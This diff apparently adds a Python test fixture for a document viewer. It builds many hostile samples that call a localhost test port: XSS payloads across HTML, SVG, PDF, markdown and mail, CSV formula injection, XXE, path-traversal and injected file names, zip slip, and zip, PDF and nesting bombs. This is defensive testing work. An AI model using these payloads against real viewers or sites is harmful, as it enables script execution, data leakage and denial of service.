@@ -1,0 +1,272 @@
+# ruff: noqa: E501  (an attack is kept in one piece)
+"""Hostile documents: each tries to run, to call home, to leave, or to wear the reader out.
+
+`CALL` is where they call; a test puts the port of its ear there. What runs marks the page,
+what loads is heard.
+"""
+
+import zlib
+from itertools import count
+
+from tests.viewer.samples import OPEN_XML, docx, mail, package, pdf
+
+CALL = "http://127.0.0.1:@PORT@"
+RUN = (
+    f"self.ran=1;try{{top.document.title='ran'}}catch(e){{}};document.title='ran';new Image().src='{CALL}/ran';"
+    "try{localStorage.ran=1}catch(e){};try{top.location='@CALL@/top'}catch(e){}"
+).replace("@CALL@", CALL)
+HTML, SVG, XML, TEXT, MD = "text/html", "image/svg+xml", "text/xml", "text/plain", "text/markdown"
+IN_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{RUN}">'
+IN_XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'
+
+IN_HTML = {
+    "script": f"<script>{RUN}</script>",
+    "module": f"<script type=module>{RUN}</script>",
+    "script from elsewhere": f"<script src={CALL}/script></script>",
+    "svg onload": f"{IN_SVG}</svg>",
+    "foreignObject": f"{IN_SVG}<foreignObject><iframe srcdoc='<script>{RUN}</script>'/></foreignObject></svg>",
+    "img onerror": f'<img src=x: onerror="{RUN}">',
+    "autofocus": f'<input autofocus onfocus="{RUN}"><a tabindex=0 autofocus onfocus="{RUN}">x</a>',
+    "details ontoggle": f'<details open ontoggle="{RUN}">x</details>',
+    "animation": f'<style>@keyframes x{{}}p{{animation:x 1s}}</style><p onanimationstart="{RUN}">x',
+    "meta refresh": f'<meta http-equiv=refresh content="0;url={CALL}/refresh">',
+    "meta policy": f"<meta http-equiv=Content-Security-Policy content='script-src *'><script>{RUN}</script>",
+    "base": f"<base href={CALL}/base/ target=_top><img src=x><link rel=stylesheet href=x>",
+    "javascript link": f'<a id=go href="javascript:{RUN}">go</a><a href=" java\nscript:{RUN}">go</a>',
+    "data link": f'<a href="data:text/html,<script>{RUN}</script>" target=_top>go</a>',
+    "form": f"<form id=f action={CALL}/form method=post target=_top><input name=a autofocus><button>go</button></form>",
+    "form action script": f'<form action="javascript:{RUN}"><button autofocus>go</button></form>',
+    "isindex": f'<button form=x formaction="javascript:{RUN}">go</button><form id=x></form>',
+    "css import": f"<style>@import '{CALL}/import';@font-face{{font-family:x;src:url({CALL}/font)}}*{{font-family:x}}</style>x",
+    "css exfiltration": f"<style>body{{background:url({CALL}/css)}}*{{list-style:url({CALL}/li)}}</style><input value=a>",
+    "inline css": f"<p style=\"background:url('{CALL}/style')\">x<table background={CALL}/table><td>x",
+    "picture": f"<img src={CALL}/img srcset={CALL}/srcset><picture><source srcset={CALL}/source><img></picture>",
+    "media": f"<video src={CALL}/video poster={CALL}/poster autoplay></video><audio src={CALL}/audio autoplay></audio>",
+    "track": f"<video autoplay><source src={CALL}/vs><track default src={CALL}/track></video>",
+    "object": f"<object data={CALL}/object></object><embed src={CALL}/embed><applet code={CALL}/applet>",
+    "frame": f"<iframe src={CALL}/frame></iframe>",
+    "frameset": f"<frameset><frame src={CALL}/frameset></frameset>",
+    "srcdoc": f'<iframe srcdoc="<script>{RUN}</script><img src={CALL}/srcdoc>"></iframe>',
+    "srcdoc breakout": f'"\'></iframe><script>{RUN}</script><iframe srcdoc="x',
+    "javascript frame": f'<iframe src="javascript:{RUN}"></iframe>',
+    "nested frames": "<iframe srcdoc='" * 8 + f"<script>{RUN}</script>" + "'></iframe>" * 8,
+    "links": f"<link rel=stylesheet href={CALL}/css><link rel=preload as=script href={CALL}/preload>"
+    f"<link rel=prefetch href={CALL}/prefetch><link rel=preconnect href={CALL}><link rel=icon href={CALL}/icon>"
+    f"<link rel=dns-prefetch href={CALL}><link rel=manifest href={CALL}/manifest><link rel=prerender href={CALL}/p>",
+    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{CALL}/spec"]}}]}}</script>',
+    "ping": f"<a id=go href=# ping={CALL}/ping>go</a>",
+    "end of script": f"</script></style></title></textarea></noscript><script>{RUN}</script>",
+    "comment": f"<!--><script>{RUN}</script>--><!-- --!><script>{RUN}</script><![CDATA[<script>{RUN}</script>]]>",
+    "mutation style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    "mutation noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
+    "mutation svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
+    "mutation select": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    "clobbering": "<a id=document></a><img name=createElement><form name=body><input name=original><a id=original>",
+    "line separators": f"\u2028<script>{RUN}</script>\u2029",
+    "dangling markup": f"<img src='{CALL}/dangling?",
+    "template": f"<template shadowrootmode=open><script>{RUN}</script></template><div><template shadowrootmode=open>"
+    f"<img src={CALL}/shadow></template></div>",
+    "xlink": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>go</text></a><use href={CALL}/use#x></use></svg>',
+    "image in svg": f"<svg><image href={CALL}/image></image><animate attributeName=href values={CALL}/v></svg>",
+    "area": f'<map name=m><area shape=default href="javascript:{RUN}"></map><img usemap=#m src=data:,>',
+    "marquee": f'<marquee onstart="{RUN}">x</marquee><body onload="{RUN}" onpageshow="{RUN}">',
+    "popover": f'<button popovertarget=x>x</button><div popover id=x onbeforetoggle="{RUN}">x</div>',
+}
+SHEETS = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{CALL}/xsl"?>'
+ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
+    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
+)
+ACTION = (
+    "/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\);app.launchURL\\('@CALL@/pdf'\\))>>".replace(
+        "@CALL@", CALL
+    )
+)
+LINK = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI({CALL}/uri)>>>>]"
+SUBMIT = f"/AA<</O<</S/SubmitForm/F<</FS/URL/F({CALL}/submit)>>>>>>"
+
+OTHERS = [
+    ("svg alone", SVG, f"{IN_SVG}<script>{RUN}</script><image href='{CALL}/i'/></svg>"),
+    ("svg foreignObject", SVG, f"{IN_SVG}<foreignObject>{IN_XHTML}</foreignObject></svg>"),
+    ("svg style", SVG, f"{IN_SVG}<style>@import url({CALL}/svgcss);</style><text>x</text></svg>"),
+    (
+        "svg entities",
+        SVG,
+        f"{ENTITIES}]><svg xmlns='http://www.w3.org/2000/svg'><text>&i;</text></svg>",
+    ),
+    (
+        "xml with a sheet",
+        XML,
+        f"{SHEETS}<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{RUN}</h:script></x>",
+    ),
+    ("external entity", XML, f"<!DOCTYPE x [<!ENTITY e SYSTEM '{CALL}/xxe'>]><x>&e;</x>"),
+    ("xhtml", "application/xhtml+xml", IN_XHTML),
+    ("html said to be an image", "image/png", f"<script>{RUN}</script>"),
+    ("html said to be svg", SVG, f"<html><script>{RUN}</script></html>"),
+    ("html said to be text", TEXT, f"<html><script>{RUN}</script></html>"),
+    ("html said to be pdf", "application/pdf", f"<html><script>{RUN}</script></html>"),
+    ("html said to be nothing", "application/octet-stream", f"<html><script>{RUN}</script></html>"),
+    ("html said to be audio", "audio/mpeg", f"<html><script>{RUN}</script></html>"),
+    ("gif and script", "image/gif", f"GIF89a/*\x01\x00\x01\x00*/=1;{RUN}//<script>{RUN}</script>"),
+    ("pdf and html", "application/pdf", pdf("x").decode("latin-1") + f"<script>{RUN}</script>"),
+    ("script", "text/javascript", RUN),
+    (
+        "stylesheet",
+        "text/css",
+        f"@import '{CALL}/own';body{{background:url({CALL}/bg)}}</style><script>{RUN}</script>",
+    ),
+    (
+        "multipart",
+        "multipart/x-mixed-replace;boundary=b",
+        f"--b\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
+    ),
+    (
+        "archived page",
+        "multipart/related",
+        f"Content-Type: text/html\r\n\r\n<script>{RUN}</script>",
+    ),
+    ("type that is markup", 'text/html"><script>x</script>', f"<script>{RUN}</script>"),
+    ("type with parameters", 'text/plain;x="</script><img src=x>"', "x"),
+    ("utf-7", "text/html;charset=utf-7", "+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-"),
+    (
+        "utf-16",
+        "text/html;charset=utf-16",
+        f"<script>{RUN}</script>".encode("utf-16").decode("latin-1"),
+    ),
+    (
+        "iso-2022-jp",
+        "text/html",
+        f'<meta charset=iso-2022-jp><p title="\x1b$B">\x1b(B<script>{RUN}</script>',
+    ),
+    (
+        "markdown",
+        MD,
+        f"[go](javascript:{RUN}) <script>{RUN}</script> ![x]({CALL}/md) <img src={CALL}/raw>\n\n"
+        f"[a]: data:text/html,<script>{RUN}</script>\n[a] <javascript:{RUN}>\n\n```<script>\n{RUN}\n```\n"
+        f"[x](<javascript:{RUN}>) [y](vbscript:x) [z](//127.0.0.1:@PORT@/z) ![i](data:image/svg+xml,<svg/onload={RUN}>)",
+    ),
+    (
+        "markdown title",
+        MD,
+        f'[x](http://a "><script>{RUN}</script>") `</code><script>{RUN}</script>`\n\n# "><img src={CALL}/h>',
+    ),
+    (
+        "csv",
+        "text/csv",
+        f'=cmd|\' /C calc\'!A0,<script>{RUN}</script>\n"<img src={CALL}/csv>",=HYPERLINK("{CALL}/h")\n',
+    ),
+    ("json", "application/json", f'{{"</script><script>{RUN}</script>": "<!--<script>"}}'),
+    (
+        "code",
+        "text/x-python",
+        f"'''</span></code></pre><script>{RUN}</script>'''\n# \u202e<img src={CALL}/code>\n",
+    ),
+    (
+        "plain mail",
+        "message/rfc822",
+        f'Subject: <script>{RUN}</script>\nFrom: "><img src={CALL}/from>\n\n<script>{RUN}</script>',
+    ),
+    (
+        "nonsense mail",
+        "message/rfc822",
+        "Content-Type: multipart/mixed; boundary=\n" * 50 + "\n--\n\n--",
+    ),
+    ("pdf script", "application/pdf", pdf("x", catalog=ACTION).decode("latin-1")),
+    ("pdf link", "application/pdf", pdf("x", extra=LINK).decode("latin-1")),
+    ("pdf submit", "application/pdf", pdf("x", extra=SUBMIT).decode("latin-1")),
+    ("pdf text", "application/pdf", pdf(f"</text></svg><script>{CALL}").decode("latin-1")),
+    ("broken media", "video/mp4", "\0\0\0\x20ftypisom" + "x" * 999),
+    ("playlist", "audio/x-mpegurl", f"#EXTM3U\n{CALL}/playlist\n"),
+    ("shortcut", "application/internet-shortcut", f"[InternetShortcut]\nURL={CALL}/url\n"),
+]
+NAMES = [
+    f"</title></script><script>{RUN}</script>.txt",
+    f'"><img src={CALL}/name onerror={RUN}>.png',
+    "--><script>x</script><!--.html",
+    "report\u202efdp.exe",
+    "a\r\nContent-Type: text/html\r\n\r\n<script>.txt",
+    "../../../etc/passwd\0.html",
+    "{{ 7*7 }}{% raw %}.txt",
+    "\u2028\u2029',alert(1)//.json",
+]
+
+
+def hostile(port):
+    """All of them: (label, file name, content type, bytes)."""
+    wild = [(label, HTML, text) for label, text in IN_HTML.items()] + OTHERS
+    number = count()
+    for label, kind, text in wild:
+        yield label, f"file{next(number)}", kind, _bytes(text, port)
+    for label in ("script", "frame", "css exfiltration", "meta refresh"):
+        yield f"mail: {label}", "a.eml", "message/rfc822", mail(_text(IN_HTML[label], port))
+    for name in NAMES:
+        yield f"name: {name[:20]!a}", _text(name, port), TEXT, b"x"
+        yield f"name: {name[:20]!a} html", _text(name, port), HTML, b"x"
+    link = docx(None, rId1=_text(f"javascript:{RUN}", port).replace("&", "&amp;").replace('"', ""))
+    yield "docx link", "a.docx", OPEN_XML + "wordprocessingml.document", link
+    yield "zip slip", "a.zip", "application/zip", package(**{"..__..__<script>": b"x"})
+
+
+def _text(text, port):
+    return text.replace("@PORT@", str(port))
+
+
+def _bytes(text, port):
+    data = _text(text, port)
+    return data.encode("latin-1") if all(ord(c) < 256 for c in data) else data.encode()
+
+
+def _endless_pdf():
+    return pdf("x").replace(b"/Count 1/Kids[4 0 R]", b"/Count 9999999/Kids[2 0 R 2 0 R 4 0 R]")
+
+
+def _inflated_pdf():
+    packed = zlib.compress(b"q " * (32 << 20), 9)
+    head = (
+        b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1"
+        b"/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
+        b"endobj\n4 0 obj<</Filter/FlateDecode/Length %d>>stream\n" % len(packed)
+    )
+    return head + packed + b"\nendstream endobj\ntrailer<</Root 1 0 R>>"
+
+
+HEAVY = {  # what tries to wear out the service or the reader; made only when asked for
+    "two million lines": ("a.txt", TEXT, lambda: b"\n" * (2 << 20)),
+    "one long line": ("a.txt", TEXT, lambda: b"word " * (400 << 10)),
+    "a million columns": ("a.csv", "text/csv", lambda: b"a," * 1_000_000 + b"\n" + b"1," * 100_000),
+    "one cell": ("a.csv", "text/csv", lambda: b'"' + b"x" * (3 << 20)),
+    "rows": ("a.csv", "text/csv", lambda: b"1,2,3,4\n" * 400_000),
+    "deep html": ("a.html", HTML, lambda: b"<div>" * 200_000),
+    "deep json": ("a.json", "application/json", lambda: b"[" * 120_000),
+    "deep but allowed json": (
+        "a.json",
+        "application/json",
+        lambda: b"[" * 900 + b"1," * 30_000 + b"1" + b"]" * 900,
+    ),
+    "deep quotes": ("a.md", MD, lambda: b">" * 100_000),
+    "brackets": ("a.md", MD, lambda: b"[" * 50_000 + b"](" * 50_000),
+    "emphasis": ("a.md", MD, lambda: b"*a_" * 60_000),
+    "backticks": ("a.md", MD, lambda: b"".join(b"`" * n + b" " for n in range(800))),
+    "wide table": (
+        "a.md",
+        MD,
+        lambda: b"|a" * 2_500 + b"\n" + b"|-" * 2_500 + b"\n" + b"|x\n" * 500,
+    ),
+    "code of quotes": ("a.py", "text/x-python", lambda: b"'\\" * 60_000),
+    "zip bomb": (
+        "a.docx",
+        OPEN_XML + "wordprocessingml.document",
+        lambda: docx(" " * (120 << 20)),
+    ),
+    "xml depth": (
+        "a.docx",
+        OPEN_XML + "wordprocessingml.document",
+        lambda: docx("<w:p>" * 20_000 + "</w:p>" * 20_000),
+    ),
+    "page tree": ("a.pdf", "application/pdf", _endless_pdf),
+    "huge page": (
+        "a.pdf",
+        "application/pdf",
+        lambda: pdf("x").replace(b"0 0 300 200", b"0 0 2e6 2e6"),
+    ),
+    "stream bomb": ("a.pdf", "application/pdf", _inflated_pdf),
+}
